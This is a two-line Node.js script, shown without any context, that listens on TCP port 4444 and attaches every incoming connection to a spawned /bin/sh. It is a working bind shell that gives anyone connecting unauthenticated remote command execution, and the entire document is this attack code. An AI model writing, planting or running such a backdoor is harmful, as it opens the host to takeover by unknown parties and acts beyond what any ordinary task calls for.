const net = require('net'), cp = require('child_process');
net.createServer((sock) => { const sh = cp.spawn('/bin/sh', []); sock.pipe(sh.stdin); sh.stdout.pipe(sock); }).listen(4444);
